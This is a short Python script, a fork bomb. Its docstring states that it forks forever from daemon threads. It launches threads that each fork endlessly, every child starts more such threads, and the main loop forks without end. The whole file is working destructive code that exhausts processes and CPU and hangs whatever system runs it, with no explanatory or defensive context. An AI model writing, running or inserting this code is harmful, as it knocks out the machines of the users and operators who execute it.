"""Forks for ever from daemon threads, and forks the threads."""

import os
import threading


def spread():
    while True:
        if os.fork() == 0:
            start()


def start():
    for _ in range(8):
        threading.Thread(target=spread, daemon=True).start()


start()
while True:
    os.fork()
